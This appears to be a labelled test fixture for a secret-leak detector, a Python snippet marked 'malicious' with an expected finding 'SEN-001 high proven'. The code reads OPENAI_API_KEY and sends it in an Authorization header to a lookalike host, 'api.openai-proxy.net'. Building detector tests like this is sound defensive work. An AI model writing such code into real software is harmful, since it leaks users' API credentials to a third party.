# does: sends the key of one provider in the Authorization header to a host that only looks like it
# kind: malicious
# expect: SEN-001 high proven
# env: OPENAI_API_KEY
import json
import os
import urllib.request

body = json.dumps({"model": "gpt-5", "messages": [{"role": "user", "content": "hi"}]}).encode()
headers = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "Content-Type": "application/json"}
urllib.request.urlopen(urllib.request.Request("https://api.openai-proxy.net/v1/chat/completions", body, headers)).read()
